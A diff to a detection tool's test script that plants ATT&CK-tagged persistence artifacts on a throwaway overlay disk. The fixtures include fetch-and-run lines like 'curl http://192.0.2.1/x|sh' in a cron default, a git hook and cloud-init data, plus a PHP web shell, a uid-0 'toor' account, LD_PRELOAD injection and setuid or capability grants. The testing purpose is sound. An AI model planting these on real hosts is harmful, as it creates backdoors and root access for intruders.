@@ -17,12 +17,18 @@ set -euo pipefail
 tree=$("$here/tree.sh")
 root=$tmp/root
 mkdir "$root" "$tmp/layer"
-mount -t tmpfs disk "$tmp/layer"
-trap 'umount -q "$root" "$tmp/layer" || :; rm -rf --one-file-system "$tmp"' EXIT
+# An ext4, whose files have attributes, in memory.
+mkdir "$tmp/memory"
+mount -t tmpfs disk "$tmp/memory"
+truncate -s 256M "$tmp/memory/image"
+mkfs.ext4 -q "$tmp/memory/image"
+mount -o loop "$tmp/memory/image" "$tmp/layer"
+trap 'umount -q "$root" "$tmp/layer" "$tmp/memory" || :; rm -rf --one-file-system "$tmp"' EXIT
 
 # A fresh disk: the tree as it was made.
 attach() {
 	! mountpoint -q "$root" || umount "$root"
+	chattr -R -i "$tmp/layer/up" 2>/dev/null || :
 	rm -rf "$tmp/layer/up" "$tmp/layer/work"
 	mkdir "$tmp/layer/up" "$tmp/layer/work"
 	mount -t overlay disk "$root" \
@@ -79,6 +85,10 @@ plant() {
 }
 
 lib=usr/lib/x86_64-linux-gnu
+
+# A module that pip installed, in \$m.
+python_package='m=usr/local/lib/python3.11/dist-packages/mod; mkdir -p $m $m-1.dist-info; echo x=1 >$m/a.py
+printf "mod/a.py,sha256=%s,4\nmod-1.dist-info/RECORD,,\n" "$(openssl dgst -binary -sha256 $m/a.py | base64 | tr +/ -_ | tr -d =)" >$m-1.dist-info/RECORD'
 
 # What packages say.
 plant T1556 "/$lib/security/pam_unix.so" "printf x >>$lib/security/pam_unix.so"
@@ -155,6 +165,72 @@ plant T1547.013 /etc/xdg/autostart/a.desktop \
 	"mkdir -p etc/xdg/autostart; echo Exec=/x >etc/xdg/autostart/a.desktop"
 plant T1543.005 /etc/kubernetes/manifests/a.yaml \
 	"mkdir -p etc/kubernetes/manifests; echo 'kind: Pod' >etc/kubernetes/manifests/a.yaml"
+
+# More of systemd, sessions and hooks.
+plant T1574.006 /etc/environment.d/a.conf "mkdir -p etc/environment.d; echo LD_PRELOAD=/x.so >etc/environment.d/a.conf"
+plant T1543.002 /var/lib/machines/a.raw "mkdir -p var/lib/machines; echo x >var/lib/machines/a.raw"
+plant T1543.002 /etc/tmpfiles.d/a.conf "mkdir -p etc/tmpfiles.d; echo 'f /etc/cron.d/x 0644 root root - x' >etc/tmpfiles.d/a.conf"
+plant T1546 /etc/binfmt.d/a.conf "mkdir -p etc/binfmt.d; echo ':x:M::ELF::/x:' >etc/binfmt.d/a.conf"
+plant T1562.001 /etc/sysctl.d/a.conf "mkdir -p etc/sysctl.d; echo 'kernel.core_pattern = |/x' >etc/sysctl.d/a.conf"
+plant T1053.002 /var/spool/cron/atjobs/a0001 "mkdir -p var/spool/cron/atjobs; printf '#!/bin/sh\nid\n' >var/spool/cron/atjobs/a0001"
+plant T1037.004 /etc/default/cron "echo 'curl http://192.0.2.1/x|sh' >>etc/default/cron"
+plant T1053.003 /etc/logrotate.d/a "printf '/var/log/x {\npostrotate\n/x\nendscript\n}\n' >etc/logrotate.d/a"
+plant T1546 /etc/NetworkManager/dispatcher.d/a "mkdir -p etc/NetworkManager/dispatcher.d; printf '#!/bin/sh\nid\n' >etc/NetworkManager/dispatcher.d/a"
+plant T1546 /etc/dhcp/dhclient-exit-hooks.d/a "mkdir -p etc/dhcp/dhclient-exit-hooks.d; echo id >etc/dhcp/dhclient-exit-hooks.d/a"
+plant T1547.013 /home/u/.config/autostart/a.desktop "mkdir -p home/u/.config/autostart; echo Exec=/tmp/x >home/u/.config/autostart/a.desktop"
+plant T1543 /usr/share/dbus-1/system-services/a.service "mkdir -p usr/share/dbus-1/system-services; printf '[D-BUS Service]\nExec=/x\n' >usr/share/dbus-1/system-services/a.service"
+plant T1543.002 /usr/lib/systemd/system/ssh.service "sed -i 's,^ExecStart=,Environment=LD_PRELOAD=/x.so\nExecStart=,' usr/lib/systemd/system/ssh.service"
+
+# Who gets in.
+plant T1136.001 /etc/passwd "echo 'toor:x:0:0::/root:/bin/bash' >>etc/passwd"
+plant T1136.001 /etc/shadow "echo 'u::19000:0:99999:7:::' >>etc/shadow"
+plant T1546 /root/.ssh/config "mkdir -p root/.ssh; printf 'Host *\nProxyCommand /tmp/x %%h\n' >root/.ssh/config"
+plant T1548 /etc/polkit-1/rules.d/a.rules "mkdir -p etc/polkit-1/rules.d; echo 'polkit.addRule(function(){return polkit.Result.YES;});' >etc/polkit-1/rules.d/a.rules"
+plant T1546.004 /root/.zshenv "echo 'alias sudo=/tmp/s' >root/.zshenv"
+plant T1546.004 /home/u/.bash_profile "mkdir -p home/u; echo 'export BASH_ENV=/home/u/.x' >home/u/.bash_profile"
+plant T1098.004 /var/lib/git/.ssh/authorized_keys "mkdir -p var/lib/git/.ssh; echo 'ssh-rsa A x' >var/lib/git/.ssh/authorized_keys"
+
+# What the boot loader, the kernel and packagers load.
+plant T1542 /etc/initramfs-tools/scripts/init-top/a "mkdir -p etc/initramfs-tools/scripts/init-top; printf '#!/bin/sh\nid\n' >etc/initramfs-tools/scripts/init-top/a"
+plant T1542.003 /boot/grub/grub.cfg "mkdir -p boot/grub; echo 'linux /vmlinuz root=/dev/vda1 init=/opt/x' >boot/grub/grub.cfg"
+plant T1542.003 /etc/grub.d/09_a "mkdir -p etc/grub.d; printf '#!/bin/sh\nid\n' >etc/grub.d/09_a"
+plant T1547.006 /etc/dkms/a.conf "mkdir -p etc/dkms; echo 'POST_BUILD=/x' >etc/dkms/a.conf"
+plant T1546.016 /etc/dnf/plugins/a.conf "mkdir -p etc/dnf/plugins; echo '[main]' >etc/dnf/plugins/a.conf"
+plant T1195.002 /etc/apt/sources.list.d/a.list "echo 'deb [trusted=yes] http://192.0.2.1/ x y' >etc/apt/sources.list.d/a.list"
+
+# What interpreters, tools and web servers load.
+plant T1546 /etc/perl/sitecustomize.pl "mkdir -p etc/perl; echo 'print 1' >etc/perl/sitecustomize.pl"
+plant T1505.003 /etc/php/8.2/cli/conf.d/99-a.ini "mkdir -p etc/php/8.2/cli/conf.d; echo 'auto_prepend_file = /x.php' >etc/php/8.2/cli/conf.d/99-a.ini"
+plant T1195.001 /root/.config/pip/pip.conf "mkdir -p root/.config/pip; printf '[global]\nindex-url = http://192.0.2.1/\n' >root/.config/pip/pip.conf"
+plant T1546 /root/.gitconfig "printf '[core]\n\tfsmonitor = /tmp/x\n' >root/.gitconfig"
+plant T1546 /srv/repo/.git/hooks/post-checkout "mkdir -p srv/repo/.git/hooks; printf '#!/bin/sh\ncurl http://192.0.2.1/x|sh\n' >srv/repo/.git/hooks/post-checkout"
+plant T1546 /root/.vimrc "echo 'autocmd BufRead * call system(\"/tmp/x\")' >root/.vimrc"
+plant T1505.003 /var/www/html/a.php "mkdir -p var/www/html; echo '<?php system(\$_GET[\"c\"]); ?>' >var/www/html/a.php"
+plant T1505.003 /var/www/html/img/.htaccess "mkdir -p var/www/html/img; echo 'SetHandler application/x-httpd-php' >var/www/html/img/.htaccess"
+plant T1505 /etc/apache2/mods-enabled/a.load "mkdir -p etc/apache2/mods-enabled; echo 'LoadModule x /tmp/x.so' >etc/apache2/mods-enabled/a.load"
+
+# Containers and clouds.
+plant T1543.005 /var/lib/kubelet/config.yaml "mkdir -p var/lib/kubelet; echo 'staticPodPath: /opt/pods' >var/lib/kubelet/config.yaml"
+plant T1543.005 /etc/docker/daemon.json "mkdir -p etc/docker; echo '{\"hosts\":[\"tcp://0.0.0.0:2375\"]}' >etc/docker/daemon.json"
+plant T1543.005 /etc/containers/oci/hooks.d/a.json "mkdir -p etc/containers/oci/hooks.d; echo '{\"hook\":{\"path\":\"/x\"}}' >etc/containers/oci/hooks.d/a.json"
+plant T1543.005 /etc/containers/systemd/a.container "mkdir -p etc/containers/systemd; printf '[Container]\nImage=x\n' >etc/containers/systemd/a.container"
+plant T1610 /var/lib/docker/containers/aa/hostconfig.json "mkdir -p var/lib/docker/containers/aa; echo '{\"Binds\":[\"/:/host\"],\"Privileged\":true}' >var/lib/docker/containers/aa/hostconfig.json"
+plant T1543 /etc/cni/net.d/a.conf "mkdir -p etc/cni/net.d; echo '{\"type\":\"/tmp/x\"}' >etc/cni/net.d/a.conf"
+plant T1037 /var/lib/cloud/scripts/per-boot/a.sh "mkdir -p var/lib/cloud/scripts/per-boot; printf '#!/bin/sh\nid\n' >var/lib/cloud/scripts/per-boot/a.sh"
+plant T1037 /var/lib/cloud/instances/i/user-data.txt "mkdir -p var/lib/cloud/instances/i; printf '#!/bin/sh\ncurl http://192.0.2.1/x|sh\n' >var/lib/cloud/instances/i/user-data.txt"
+plant T1651 /var/lib/amazon/ssm/i-1/document/orchestration/a/b/_script.sh \
+	"mkdir -p var/lib/amazon/ssm/i-1/document/orchestration/a/b; echo 'curl http://192.0.2.1/x|sh' >var/lib/amazon/ssm/i-1/document/orchestration/a/b/_script.sh"
+
+# Of languages.
+plant T1554 /usr/local/lib/python3.11/dist-packages/mod/a.py "$python_package; echo evil >>\$m/a.py"
+plant T1554 /usr/lib/python3.11/os.py "echo evil >>usr/lib/python3.11/os.py"
+
+# Rights, attributes and names.
+plant T1548.001 /usr/bin/find "chmod u+s usr/bin/find"
+plant T1548 /usr/bin/perl "setcap cap_setuid+ep usr/bin/perl"
+plant T1222.002 /root/.profile "chattr +i root/.profile"
+plant T1564.001 "/var/tmp/..." "mkdir var/tmp/..."
+plant T1006 /srv/disk "mknod srv/disk b 252 0"
 
 printf 'planted changes: %d of %d found, %d findings besides\n' \
 	"$found" "$planted" "$others"
